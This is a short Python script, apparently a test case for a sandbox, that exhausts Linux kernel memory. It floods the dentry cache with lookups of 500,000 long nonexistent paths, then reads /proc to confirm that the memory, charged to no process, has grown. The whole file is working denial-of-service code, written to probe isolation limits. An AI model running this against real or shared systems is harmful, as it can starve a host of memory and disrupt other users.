"""Asks for names that are not there without end: the kernel remembers each, in memory that no process has."""

import ctypes
import time

NAMES, LENGTH = 500_000, 220


def remembered():
    with open("/proc/sys/fs/dentry-state") as file:
        return int(file.read().split()[4])


def directory():
    """The code's, which goes with the function; a file system in memory remembers no such names."""
    mounts = [line.split() for line in open("/proc/self/mounts")]
    return "/usr" if any(mount[1] == "/code" and mount[2] == "tmpfs" for mount in mounts) else "/code"


def attack(world):
    access, before = ctypes.CDLL(None).access, remembered()
    start = b"%b/%d-" % (directory().encode(), time.monotonic_ns())  # what others asked for is remembered already
    for number in range(NAMES):
        access(b"%b%0*d" % (start, LENGTH, number), 0)
    grown = remembered() - before
    if grown < NAMES * 4 // 5:
        raise MemoryError(f"{grown} names were remembered")
    return f"{grown} names"
